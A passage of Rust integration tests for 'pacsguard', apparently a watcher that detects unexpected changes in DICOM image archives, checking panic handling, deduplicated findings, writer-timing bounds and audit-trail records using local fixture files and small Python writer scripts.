        "{detail}"
    );
}

/// Issue 16, session 15: a panic of standalone `watch`'s guard (the engine's watcher) was
/// not caught: nothing went on the trail, the control socket's queue stayed open, and the
/// process ended with Rust's 101. Now it is caught as `serve` catches it (one function):
/// said on stderr naming the last finding, recorded on the trail, exit 2. And the test
/// hook's empty value, which matched every path, matches nothing. The trigger is the debug
/// build's hook (`PACSGUARD_TEST_GUARD_PANIC`): no real one is known.
#[test]
fn a_panic_of_the_standalone_watcher_is_said_recorded_and_exit_2() {
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&[]);
    let hooked = |on: &str| {
        let mut command = pacsguard();
        command.env("PACSGUARD_TEST_GUARD_PANIC", on);
        Watcher::start_with(&env, &[], command)
    };
    // Empty: no hook, the finding is reported and the watcher stops cleanly.
    let watcher = hooked("");
    fs::write(env.path("poison-0.txt"), b"added").expect("test fixture");
    let seen = watcher.wait(Duration::from_secs(30), |f, _| {
        tally(f, &env.tree).contains_key(&("added".into(), "poison-0.txt".into()))
    });
    let (code, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    assert_eq!(code, 1, "{stderr}");
    assert!(
        !stderr.contains("TEST HOOK") && !stderr.contains("panicked"),
        "{stderr}"
    );

    let mut watcher = hooked("poison-");
    assert!(
        watcher.stderr().contains("TEST HOOK"),
        "{}",
        watcher.stderr()
    );
    fs::write(env.path("poison-1.txt"), b"added").expect("test fixture");
    let end = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(status) = watcher.child.try_wait().expect("test fixture") {
            break status;
        }
        assert!(Instant::now() < end, "still running: {}", watcher.stderr());
        std::thread::sleep(Duration::from_millis(50));
    };
    let ended = watcher.wait(Duration::from_secs(5), |_, err| err.contains("pacsguard: "));
    let stderr = watcher.stderr();
    assert!(ended, "{stderr}");
    assert_eq!(status.code(), Some(2), "{stderr}");
    assert!(
        stderr.lines().any(
            |l| l.starts_with("pacsguard watch: the guard thread panicked")
                && l.contains("poison-1.txt")
        ),
        "{stderr}"
    );
    let shown = env.run(&["audit", "show", "--json", "--action", "watch"]);
    let records: Value = serde_json::from_slice(&shown.stdout).expect("test fixture");
    let panicked = records["records"]
        .as_array()
        .expect("watch records")
        .iter()
        .any(|r| {
            r["outcome"] == "failure"
                && r["detail"].as_str().is_some_and(|d| {
                    d.contains("the guard thread panicked") && d.contains("poison-1.txt")
                })
        });
    assert!(panicked, "{records:#}");
    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", common::stdout(&verify));
}

/// Issue 11, review (session 15): in a polled `append-only` directory, a temporary file
/// that arrived during the run and was then rewritten was reported `content-changed` (an
/// alert) at every poll. A file the run saw arrive is judged as an arrival, and one state
/// is reported once, however many polls look at it. Two later arrivals, each found by a
/// poll of its own, bound the wait: by then the rewritten file was polled at least twice.
#[test]
fn a_rewritten_arrival_in_a_polled_directory_is_reported_once_and_is_no_alert() {
    rewritten_arrival_in_a_polled_directory(Watcher::start_inotify_only);
}

/// The same with fanotify, which sees the writes in the polled directory too.
#[test]
fn a_rewritten_arrival_in_a_polled_directory_with_fanotify_is_reported_once_and_is_no_alert() {
    rewritten_arrival_in_a_polled_directory(Watcher::start);
}

fn rewritten_arrival_in_a_polled_directory(start: fn(&Env, &[&str]) -> Watcher) {
    let env = Env::new();
    configure(
        &env,
        "quiet_ms = 200\nscrub_mb_per_s = 0\nmax_watches = 1\npoll_seconds = 1\n",
    );
    image_store(&env, 2);
    let watcher = start(&env, &[]);
    assert!(
        !watcher.stderr().contains("(0 polled)"),
        "the study directories are polled: {}",
        watcher.stderr()
    );
    let temp = env.path("archive/study0/upload.tmp");
    let is = |f: &Value, kind: &str, path: &Path| {
        f["kind"] == kind && f["path"].as_str() == path.to_str()
    };
    fs::write(&temp, b"first part of an upload").expect("test fixture");
    let added = watcher.wait(Duration::from_secs(60), |f, _| {
        f.iter().any(|f| is(f, "added", &temp))
    });
    assert!(added, "{}", watcher.stderr());
    let before = watcher.findings().len();
    fs::write(&temp, b"the upload rewritten, longer than before").expect("test fixture");
    fs::set_permissions(&temp, std::os::unix::fs::PermissionsExt::from_mode(0o600))
        .expect("test fixture");
    let seen = watcher.wait(Duration::from_secs(60), |f, _| {
        f[before..]
            .iter()
            .any(|f| f["path"].as_str() == temp.to_str())
    });
    assert!(seen, "the rewrite is reported: {}", watcher.stderr());
    for i in 0..2 {
        let marker = env.path(&format!("archive/study0/later{i}.dcm"));
        fs::write(&marker, b"a later arrival").expect("test fixture");
        let found = watcher.wait(Duration::from_secs(60), |f, _| {
            f.iter().any(|f| is(f, "added", &marker))
        });
        assert!(found, "{}", watcher.stderr());
    }
    let (_, findings, stderr) = watcher.stop();
    let about: Vec<&Value> = findings
        .iter()
        .filter(|f| f["path"].as_str() == temp.to_str())
        .collect();
    // The arrival, then its rewrite (content and mode at once): two findings, one a state.
    assert_eq!(about.len(), 2, "{about:#?}\n{stderr}");
    assert!(
        about
            .iter()
            .all(|f| f["kind"] == "added" && f["severity"] == "info"),
        "an arrival rewritten is judged as an arrival, no alert: {about:#?}"
    );
    let counts = tally(&findings, &env.tree);
    let twice: Vec<_> = counts
        .iter()
        .filter(|((kind, path), n)| **n > 1 && !(kind == "added" && path.ends_with("upload.tmp")))
        .collect();
    assert!(
        twice.is_empty(),
        "reported more than once: {twice:?}\n{stderr}"
    );
    assert!(
        !kinds(&findings).contains(&"ransomware-suspected".to_string()),
        "{findings:#?}"
    );
}

/// Found in review s18-r14: a store replaced under a running watcher (a copy moved over
/// it) was said as a success ("its writes are kept out of fanotify's events again"),
/// while the watcher keeps the store it opened: SQLite refuses to write a database moved
/// or deleted under it ("attempt to write a readonly database"), so what the watcher saw
/// could no longer be kept until it restarted, and nothing said to restart it. Said now,
/// with the remedy; the outcome on the trail is a failure.
#[test]
fn a_store_replaced_under_the_watcher_is_said_to_need_a_restart() {
    if !common::is_root() {
        return; // the store is marked again only where fanotify is had (root)
    }
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    env.profile(&[]);
    let watcher = Watcher::start(&env, &[]);
    let store = env.home.join("pacsguard.db");
    let copy = env.home.join("restored.db");
    fs::copy(&store, &copy).expect("copy");
    fs::rename(&copy, &store).expect("mv");
    assert!(
        watcher.wait(Duration::from_secs(30), |_, err| err
            .contains("was replaced by a new file")),
        "{}",
        watcher.stderr()
    );
    let said = watcher.stderr();
    let (_, _, _) = watcher.stop();
    let line = said
        .lines()
        .find(|l| l.contains("was replaced by a new file"))
        .expect("said");
    assert!(line.contains("restart"), "{line}");
    let out = env.run(&["audit", "show", "--json"]);
    let shown: Value = serde_json::from_slice(&out.stdout).expect("audit show --json");
    let records = shown["records"].as_array().cloned().unwrap_or_default();
    let record = records
        .iter()
        .find(|r| {
            r["detail"]
                .as_str()
                .is_some_and(|d| d.contains("was replaced by a new file"))
        })
        .unwrap_or_else(|| panic!("on the trail: {shown:#}"));
    assert_eq!(record["outcome"], "failure", "{record:#}");
}

/// Review s18-r11: a directory of many files written a moment before (within
/// `quiet_ms`) renamed at once. Each file under the new name was looked up among the
/// stored files of the verification by a scan of all of them (is it a stored file
/// renamed, not an arrival still being written?): quadratic, on the watcher's loop. With
/// 40,000 files the move was reported after 10 to 13 s in a debug build (2 s with an index
/// by inode); 60,000 here (about 20 s on the scan); 100,000 stalled the loop for over a
/// minute while every other event waited. The speed is a benchmark's to measure (no
/// timed test); here a few thousand recent files renamed at once are one move, none of
/// them an arrival or a removal.
#[test]
fn a_directory_of_many_recent_files_renamed_is_judged_without_a_scan_per_file() {
    const FILES: usize = 3_000;
    let env = Env::new();
    configure(&env, "quiet_ms = 60000\nscrub_mb_per_s = 0\n");
    let dir = env.path("archive/big");
    fs::create_dir_all(&dir).expect("test fixture");
    for i in 0..FILES {
        fs::write(dir.join(format!("{i}.dcm")), format!("DICM {i}")).expect("test fixture");
    }
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let locked = env.path("archive/big.locked");
    fs::rename(&dir, &locked).expect("test fixture");
    let moved = watcher.wait(Duration::from_secs(120), |f, _| {
        f.iter()
            .any(|f| f["kind"] == "moved" && f["path"].as_str() == locked.to_str())
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(moved, "{findings:#?}\n{stderr}");
    let split: Vec<_> = findings
        .iter()
        .filter(|f| f["kind"] == "removed" || f["kind"] == "added")
        .collect();
    assert!(split.is_empty(), "{split:#?}\n{stderr}");
}

/// A stop signal sent twice in a row (`kill` run twice, Ctrl-C pressed twice) is one
/// request: the watcher still finishes and signs its final checkpoint, exit 0, every
/// record covered (review r23-scale: the second signal exited at once, status 2, the last
/// records unsigned until the next start).
#[test]
fn a_stop_signal_sent_twice_still_ends_with_the_final_checkpoint() {
    let env = Env::new();
    env.profile(&[]);
    let mut watcher = Watcher::start(&env, &[]);
    watcher.signal(nix::sys::signal::Signal::SIGTERM);
    std::thread::sleep(Duration::from_millis(20));
    watcher.signal(nix::sys::signal::Signal::SIGTERM);
    let status = watcher.child.wait().expect("watch exits");
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(status.code(), Some(0), "{}", watcher.stderr());
    assert!(
        watcher.stderr().contains("already stopping"),
        "{}",
        watcher.stderr()
    );
    let out = env.run(&["audit", "verify", "--json"]);
    assert_eq!(out.status.code(), Some(0), "{}", common::stderr(&out));
    let doc: Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(doc["unsigned_records"], 0, "{doc:#}");
}

/// Review r27-watch (issue 11, left open by r26-watch): two `dcmodify -nb` back to back on
/// one file, as a PACS editing an instance twice (each opens it `O_TRUNC`, writes it
/// whole and closes it, in place). The watcher waited for one writer: the first close
/// came due, no writer held the file at the pass over `/proc`, and the second
/// `dcmodify` truncated it before it was hashed; the half-written file was judged
/// (`no-longer-dicom`, then `content-changed` from 0 bytes at the second close). Each
/// instance must be judged only whole: `header-changed`, never another kind. Real
/// files: pydicom's CT_small.dcm, DCMTK's dcmodify.
#[test]
fn two_writers_back_to_back_are_judged_only_when_the_file_is_whole() {
    const FILES: usize = 16;
    const ROUNDS: usize = 3;
    let env = Env::new();
    configure(&env, "scrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let archive = env.path("archive");
    fs::create_dir_all(&archive).expect("test fixture");
    let paths: Vec<std::path::PathBuf> = (0..FILES)
        .map(|i| {
            let path = archive.join(format!("{i}.dcm"));
            fs::copy(&sample, &path).expect("pydicom's CT_small.dcm");
            path
        })
        .collect();
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    for round in 0..ROUNDS {
        for path in &paths {
            for edit in ["A", "B"] {
                let name = format!("(0010,0010)=EDIT^{edit}{round}");
                let status = std::process::Command::new("dcmodify")
                    .args(["-nb", "-q", "-m", &name])
                    .arg(path)
                    .status()
                    .expect("dcmtk runs (scripts/setup-test-deps.sh)");
                assert!(status.success(), "dcmodify {}", path.display());
            }
        }
    }
    let rel = |p: &Path| {
        p.strip_prefix(&env.tree)
            .expect("in the tree")
            .to_string_lossy()
            .into_owned()
    };
    let edited: Vec<String> = paths.iter().map(|p| rel(p)).collect();
    let seen = watcher.wait(Duration::from_secs(30), |f, _| {
        let t = tally(f, &env.tree);
        edited
            .iter()
            .all(|p| t.contains_key(&("header-changed".to_string(), p.clone())))
    });
    std::thread::sleep(Duration::from_secs(2));
    let (_, findings, stderr) = watcher.stop();
    assert!(seen, "{findings:#?}\n{stderr}");
    let torn: Vec<&Value> = findings
        .iter()
        .filter(|f| {
            f["path"]
                .as_str()
                .is_some_and(|p| paths.iter().any(|x| x.to_str() == Some(p)))
                && f["kind"] != "header-changed"
        })
        .collect();
    assert!(torn.is_empty(), "judged mid-write: {torn:#?}\n{stderr}");
}

/// Review r28-watch: the writer above, without its pause (open `O_TRUNC`, write whole,
/// close, at once again, until told to stop): the pass over `/proc` finds it holding the
/// file on some looks and not on others, so no writer wait runs its course (each one it
/// misses ends it, and the next starts anew), and the file is written again after each
/// hashing. Only `MAX_WRITTEN_WHILE_HASHED_LOOKS` bounds it: the change is reported while
/// the writer still writes, within `WRITTEN_WHILE_HASHED_BOUND`; raised to 100,000, it is
/// not on an idle machine.
///
/// Review r30-flaky2: which look judges it depends on the scheduler. Beside a load of
/// 16-20 the writer is often off the processor when a look happens, so a whole state is
/// judged in a gap between two writes, without the limit (failed 3 of 5 asserting the
/// limit's warning), and the watcher's 5-14 verifications in 10 s outlasted a writer of
/// 10 s. So the writer writes until the change is seen, and this asserts what holds in
/// every interleaving: the change is reported in time while the writer still writes, and
/// nothing is reported of the image but its states (all whole: the writer never
/// truncates), hashings the writer cut into (`unstable`, its times moved) and, when the
/// limit was reached, the limit's warning naming it. The warning at the
/// limit itself is `a_file_written_after_each_hashing_is_judged_at_the_limit_with_a_warning`
/// (pacsguard-engine).
#[test]
fn a_writer_rewriting_without_pause_does_not_hold_the_change_back() {
    // MAX_WRITTEN_WHILE_HASHED_LOOKS (5) looks a quiet period apart, each a verification
    // of 1-2 s on a loaded machine (the limit was reached 7 s after the first write beside
    // a load of 16 and two busy loops; the change was seen after 22 s at worst, a hashing
    // cut into ends a count), twice that; the writer writes 90 s at most, so a change held
    // back without end is not reported within it.
    const WRITTEN_WHILE_HASHED_BOUND: Duration = Duration::from_secs(45);
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let image = env.path("archive/0.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    // Beside the home and the tree, in neither: its making is no finding.
    let stop = env.home.with_file_name("stop-writing");
    let writer = "import os, sys, time\n\
        path, stop = sys.argv[1], sys.argv[2]\n\
        data = bytearray(open(path, 'rb').read())\n\
        end = time.time() + 90\n\
        i = 0\n\
        while time.time() < end and not os.path.exists(stop):\n\
        \x20   data[-1] = i % 256\n\
        \x20   fd = os.open(path, os.O_WRONLY)\n\
        \x20   os.write(fd, data)\n\
        \x20   os.close(fd)\n\
        \x20   if i == 0: print('writing', flush=True)\n\
        \x20   i += 1\n";
    // The window runs from its first write, not from python3's spawn.
    let mut child = watcher::python_saying(writer, [&image, &stop], "writing");
    let is_image = |x: &Value| x["path"].as_str() == image.to_str();
    let seen = watcher.wait(WRITTEN_WHILE_HASHED_BOUND, |f, _| {
        f.iter()
            .any(|x| is_image(x) && x["kind"] == "header-changed")
    });
    let still_writing = child.try_wait().expect("the writer").is_none();
    fs::write(&stop, b"").expect("test fixture");
    child.wait().expect("the writer ends");
    let (_, findings, stderr) = watcher.stop();
    assert!(
        seen && still_writing,
        "not reported while the writer still wrote (seen {seen}, still writing \
         {still_writing}): {findings:#?}\n{stderr}"
    );
    let of_image: Vec<&Value> = findings.iter().filter(|x| is_image(x)).collect();
    let limit_said = |x: &Value| {
        x["kind"] == "not-inspected"
            && x["severity"] == "warning"
            && x["detail"]
                .as_str()
                .is_some_and(|d| d.contains("5 looks in a row (MAX_WRITTEN_WHILE_HASHED_LOOKS)"))
    };
    // A hashing the writer cut into on each of its tries records no hash: said so, with
    // the times it moved (and nothing of the content).
    let unhashed = |x: &Value| {
        (x["kind"] == "unstable" && x["severity"] == "warning")
            || (x["kind"] == "metadata-changed"
                && x["fields"]
                    .as_array()
                    .is_some_and(|fields| fields.iter().all(|f| f == "mtime" || f == "ctime")))
    };
    // Only whole states (the writer never truncates: each is the image with another
    // last byte), the limit's warnings and hashings cut into.
    let other: Vec<&&Value> = of_image
        .iter()
        .filter(|x| x["kind"] != "header-changed" && !limit_said(x) && !unhashed(x))
        .collect();
    assert!(other.is_empty(), "{other:#?}\n{stderr}");
}

/// Review r29-watch: the counts of removals put off while rename chains were in flight
/// (`MAX_CHAIN_DEFERRALS`) forgot them all when full. With the capacity lowered to 1
/// (`PACSGUARD_TEST_MAX_CHAIN_DEFERRED`), files written in four study directories, left
/// to settle (0.3 s, past the quiet period), then renamed and removed together, again and
/// again for up to 16 s: a removal the full counts refuse is reported at once, its
/// finding naming the bound in its own words (not "put off 3 times"). Files made, renamed
/// and removed without pause never settle since r29-watch2 (scratch files: no finding at
/// all), so they could not reach the bound on an idle machine.
#[test]
fn a_removal_past_full_chain_counts_is_reported_at_once_saying_so() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let studies: Vec<std::path::PathBuf> = (0..4)
        .map(|i| {
            let study = env.path(&format!("busy{i}"));
            fs::create_dir_all(&study).expect("test fixture");
            for n in 0..200 {
                fs::write(study.join(format!("{n}.dcm")), b"DICM stored").expect("test fixture");
            }
            study
        })
        .collect();
    env.profile(&["--policy", "append-only"]);
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_MAX_CHAIN_DEFERRED", "1");
    let watcher = Watcher::start_with(&env, &[], command);
    let churn = "import os, sys, time\n\
        end = time.time() + 16\n\
        i = 0\n\
        while time.time() < end:\n\
        \x20   made = []\n\
        \x20   for d in sys.argv[1:]:\n\
        \x20       p = os.path.join(d, 'tmp%d' % (i % 50))\n\
        \x20       open(p, 'wb').write(b'DICM new')\n\
        \x20       made.append(p)\n\
        \x20   time.sleep(0.3)\n\
        \x20   for p in made:\n\
        \x20       os.rename(p, p + '.x')\n\
        \x20       os.unlink(p + '.x')\n\
        \x20   i += 1\n";
    let mut child = std::process::Command::new("python3")
        .args(["-c", churn])
        .args(&studies)
        .spawn()
        .expect("python3 runs");
    let full_said = |f: &[Value]| {
        f.iter().any(|x| {
            x["kind"] == "removed"
                && x["detail"].as_str().is_some_and(|d| {
                    d.contains("reported at once while rename chains were in flight")
                        && d.ends_with("1 other removals were put off already (MAX_CHAIN_DEFERRED)")
                })
        })
    };
    let seen = watcher.wait(Duration::from_secs(15), |f, _| full_said(f));
    let still_churning = child.try_wait().expect("the churn").is_none();
    let _ = child.kill();
    let _ = child.wait();
    let (_, findings, stderr) = watcher.stop();
    assert!(
        seen && still_churning,
        "a removal refused by the full chain counts said so: {findings:#?}\n{stderr}"
    );
}

/// Review r29-watch: a writer rewriting a stored instance whole (`O_TRUNC`) with the
/// very same bytes, without pause, moves its times at every write: each state, once
/// judged, was a `metadata-changed` of its own, one per quiet period (~90 in 10 s), a
/// flood that buries what matters. Repeated states of one file whose content and
/// attributes are what was last reported (only its times moved) are one finding, the
/// count said once the repeats stop or at the stop; a content change is reported as ever.
#[test]
fn a_file_rewritten_with_the_same_bytes_without_pause_is_one_finding_with_a_count() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let image = env.path("archive/0.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let writer = "import os, sys, time\n\
        path = sys.argv[1]\n\
        data = open(path, 'rb').read()\n\
        end = time.time() + float(sys.argv[2])\n\
        while time.time() < end:\n\
        \x20   fd = os.open(path, os.O_WRONLY | os.O_TRUNC)\n\
        \x20   os.write(fd, data)\n\
        \x20   os.close(fd)\n\
        \x20   time.sleep(0.001)\n\
        data = bytearray(data)\n\
        data[-1] ^= 0xff\n\
        open(path, 'r+b').write(data)\n";
    let status = std::process::Command::new("python3")
        .args(["-c", writer])
        .arg(&image)
        .arg("6")
        .status()
        .expect("python3 runs");
    assert!(status.success());
    let on_image = |f: &[Value], kind: &str| {
        f.iter()
            .filter(|x| x["path"].as_str() == image.to_str() && x["kind"] == kind)
            .count()
    };
    let changed = watcher.wait(Duration::from_secs(10), |f, _| {
        ["header-changed", "pixel-data-changed", "content-changed"]
            .iter()
            .any(|kind| on_image(f, kind) > 0)
    });
    let (_, findings, stderr) = watcher.stop();
    assert!(
        changed,
        "the content change at the end reported: {findings:#?}\n{stderr}"
    );
    // The first state judged, and the count of the repeats at the stop (a state judged
    // between the content change and its repeats may add one). Under load a rewrite is
    // sometimes judged mid-write (0 bytes, `content-changed` or `no-longer-dicom`: a
    // change, reported): the next same-bytes state is then new again, one more each.
    // Uncollapsed, 44 in 6 s.
    let torn: usize = ["content-changed", "no-longer-dicom", "pixel-data-changed"]
        .iter()
        .map(|kind| on_image(&findings, kind))
        .sum();
    let repeats = on_image(&findings, "metadata-changed");
    assert!(
        (2..=3 + torn).contains(&repeats) && repeats < 12,
        "repeats collapsed ({repeats}, {torn} torn): {findings:#?}\n{stderr}"
    );
    assert!(
        findings.iter().any(|x| x["path"].as_str() == image.to_str()
            && x["kind"] == "metadata-changed"
            && x["detail"]
                .as_str()
                .is_some_and(|d| d.contains("more times in the last"))),
        "the count said: {findings:#?}\n{stderr}"
    );
}

/// Review r28-watch2: the count of looks a changed file was put off for lived in a map
/// that forgot every count when full (`MAX_WRITTEN_WHILE_HASHED`), so more files kept
/// rewriting than it holds reset each other's counts and a change was put off without
/// end (no bound warning at all in 10 s, before). With the capacity lowered to 1 (the
/// debug build's hook `PACSGUARD_TEST_MAX_WRITTEN_WHILE_HASHED`), one writer rewrites
/// three stored instances without pause for 10 s: each is judged while the writer still
/// writes (in a gap between two writes, or at its bound), and the full map is said. That
/// no count is forgotten is `put_off_counts_are_never_forgotten_by_a_flood`'s.
#[test]
fn more_files_rewritten_than_put_offs_held_do_not_reset_each_others_bound() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    let images: Vec<std::path::PathBuf> = (0..3)
        .map(|i| {
            let image = env.path(&format!("archive/{i}.dcm"));
            fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
            image
        })
        .collect();
    env.profile(&["--policy", "append-only"]);
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_MAX_WRITTEN_WHILE_HASHED", "1");
    let watcher = Watcher::start_with(&env, &[], command);
    let writer = "import os, sys, time\n\
        paths = sys.argv[1:]\n\
        data = bytearray(open(paths[0], 'rb').read())\n\
        end = time.time() + 10\n\
        i = 0\n\
        while time.time() < end:\n\
        \x20   data[-1] = i % 256\n\
        \x20   for path in paths:\n\
        \x20       fd = os.open(path, os.O_WRONLY)\n\
        \x20       os.write(fd, data)\n\
        \x20       os.close(fd)\n\
        \x20   if i == 0: print('writing', flush=True)\n\
        \x20   i += 1\n";
    // The window runs from its first writes, not from python3's spawn.
    let mut child = watcher::python_saying(writer, &images, "writing");
    let bound_said = |f: &[Value], image: &Path| {
        f.iter().any(|x| {
            x["path"].as_str() == image.to_str()
                && x["kind"] == "not-inspected"
                && x["severity"] == "warning"
                && x["detail"].as_str().is_some_and(|d| {
                    d.contains("(MAX_WRITTEN_WHILE_HASHED_LOOKS)")
                        || d.contains("(MAX_WRITTEN_WHILE_HASHED)")
                })
        })
    };
    let judged = |f: &[Value], image: &Path| {
        bound_said(f, image)
            || f.iter()
                .any(|x| x["path"].as_str() == image.to_str() && x["kind"] == "header-changed")
    };
    let seen = watcher.wait(Duration::from_secs(9), |f, _| {
        images.iter().all(|image| judged(f, image))
            && images.iter().any(|image| bound_said(f, image))
    });
    let still_writing = child.try_wait().expect("the writer").is_none();
    child.wait().expect("the writer ends");
    let (_, findings, stderr) = watcher.stop();
    assert!(
        seen && still_writing,
        "each file judged, a bound said, while the writer still wrote: {findings:#?}\n{stderr}"
    );
    assert!(
        findings.iter().any(|x| x["detail"]
            .as_str()
            .is_some_and(|d| d.contains("1 other changed files were put off already"))),
        "the full map said: {findings:#?}\n{stderr}"
    );
}

/// Review r29-watch: the count of put-offs of a new file still being written (its mtime
/// within the quiet period, `MAX_DEFERRALS`) lived in a map that forgot every count when
/// full, so more such files than it holds reset each other's counts and an arrival was
/// put off without end. With the capacity lowered to 1 (the debug build's hook
/// `PACSGUARD_TEST_MAX_DEFERRED_FILES`), a writer touches two new files without pause
/// for 10 s (`os.utime`: a fresh mtime each time, no writer holding them). Before, no
/// finding on either in 9 s; now the one the full map refuses is reported `added` at
/// once, with a warning naming the bound, while the touching goes on. (The other is
/// reported at `MAX_DEFERRALS`, each put-off up to 20 quiet periods under such events:
/// about 20 s, longer than this test; that no count is forgotten is
/// `put_off_counts_are_never_forgotten_by_a_flood`'s.)
#[test]
fn a_new_file_put_off_past_full_deferral_counts_is_judged_at_once() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    env.profile(&["--policy", "append-only"]);
    let mut command = pacsguard();
    command.env("PACSGUARD_TEST_MAX_DEFERRED_FILES", "1");
    let watcher = Watcher::start_with(&env, &[], command);
    fs::create_dir_all(env.path("incoming")).expect("test fixture");
    let arrivals: Vec<std::path::PathBuf> = (0..2)
        .map(|i| env.path(&format!("incoming/{i}.dcm")))
        .collect();
    let toucher = "import os, sys, time\n\
        for path in sys.argv[1:]:\n\
        \x20   open(path, 'wb').write(b'DICM arriving')\n\
        print('touching', flush=True)\n\
        end = time.time() + 10\n\
        while time.time() < end:\n\
        \x20   for path in sys.argv[1:]:\n\
        \x20       os.utime(path)\n\
        \x20   time.sleep(0.005)\n";
    // The window runs from the files' making, not from python3's spawn.
    let mut child = watcher::python_saying(toucher, &arrivals, "touching");
    let added = |f: &[Value], path: &Path| {
        f.iter()
            .any(|x| x["path"].as_str() == path.to_str() && x["kind"] == "added")
    };
    let full_said = |f: &[Value], path: &Path| {
        f.iter().any(|x| {
            x["path"].as_str() == path.to_str()
                && x["kind"] == "not-inspected"
                && x["severity"] == "warning"
                && x["detail"].as_str().is_some_and(|d| {
                    d.contains("1 other files were put off already (MAX_DEFERRED_FILES)")
                })
        })
    };
    let seen = watcher.wait(Duration::from_secs(9), |f, _| {
        arrivals
            .iter()
            .any(|path| added(f, path) && full_said(f, path))
    });
    let still_writing = child.try_wait().expect("the toucher").is_none();
    child.kill().expect("the toucher stops");
    child.wait().expect("the toucher ends");
    let (_, findings, stderr) = watcher.stop();
    assert!(
        seen && still_writing,
        "a new file refused by the full counts reported at once, and the bound said, \
         while it was still touched: {findings:#?}\n{stderr}"
    );
}

/// Review r28-watch: a stored instance a writer holds open and keeps rewriting (python3,
/// `r+b`, its last byte changed every 50 ms) waits for that writer up to the writer wait
/// (30 s). A stop before that left its change unsaid until the next start (and for
/// ever if none came); the stop says it: a warning on its root naming the file, on the
/// output, the trail and stderr.
#[test]
fn a_change_still_put_off_at_the_stop_is_said_at_the_stop() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
    let image = env.path("archive/0.dcm");
    fs::create_dir_all(env.path("archive")).expect("test fixture");
    fs::copy(&sample, &image).expect("pydicom's CT_small.dcm");
    env.profile(&["--policy", "append-only"]);
    let watcher = Watcher::start(&env, &[]);
    let writer = "import os, sys, time\n\
        f = open(sys.argv[1], 'r+b', buffering=0)\n\
        data = bytearray(f.read())\n\
        i = 0\n\
        while True:\n\
        \x20   data[-1] = i % 256\n\
        \x20   f.seek(0)\n\
        \x20   f.write(data)\n\
        \x20   if i == 0: print('writing', flush=True)\n\
        \x20   i += 1\n\
        \x20   time.sleep(0.05)\n";
    let mut child = watcher::python_saying(writer, [&image], "writing");
    // Written and waited for (the writer wait is 30 s): nothing to see yet. Never quiet
    // for 100 ms, the file is due 20 quiet periods (2 s) after its first write, then
    // waits for its writer; counted from that write, not from python3's spawn (over a
    // second under load: the stop came before the file was due, nothing said). 8 s:
    // well past the 2 s on a loaded machine, well short of the 30 s writer wait (flake
    // audit of session 41: 3 s left one second).
    std::thread::sleep(Duration::from_secs(8));
    let (_, findings, stderr) = watcher.stop();
    let _ = child.kill();
    let _ = child.wait();
    let said = findings.iter().any(|f| {
        f["kind"] == "not-inspected"
            && f["severity"] == "warning"
            && f["path"].as_str() == env.tree.to_str()
            && f["fields"]
                .as_array()
                .is_some_and(|a| a.iter().any(|x| x == "unjudged-at-stop"))
            && f["detail"].as_str().is_some_and(|d| {
                d.starts_with("1 changed or new file(s)")
                    && d.contains(image.to_str().expect("utf-8"))
            })
    });
    assert!(said, "{findings:#?}\n{stderr}");
    assert!(
        stderr.contains("were not judged when the watcher stopped"),
        "{stderr}"
    );
    let trail = env.run(&["audit", "show", "--json"]);
    let trail = common::stdout(&trail);
    assert!(trail.contains("unjudged-at-stop"), "{trail}");
}

/// Review r27-watch, the bound of the test above: a writer that rewrites a stored
/// instance in place without end (python3, open `O_TRUNC`, write it whole with its last
/// byte, past the Pixel Data, changed, close, every 30 ms, for 8 s) must not hold its
/// change back by always being written when it is
/// hashed: the change is reported while the writer still writes
/// (`MAX_WRITTEN_WHILE_HASHED_LOOKS` looks at most, each a wait for its writer). It
/// passes with that limit raised to 100,000 (a hashing between two of its writes judges
/// the change): `a_writer_rewriting_without_pause_does_not_hold_the_change_back` is the
/// one that fails then.
#[test]
fn a_writer_rewriting_without_end_does_not_hold_the_change_back() {
    let env = Env::new();
    configure(&env, "quiet_ms = 100\nscrub_mb_per_s = 0\n");
    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
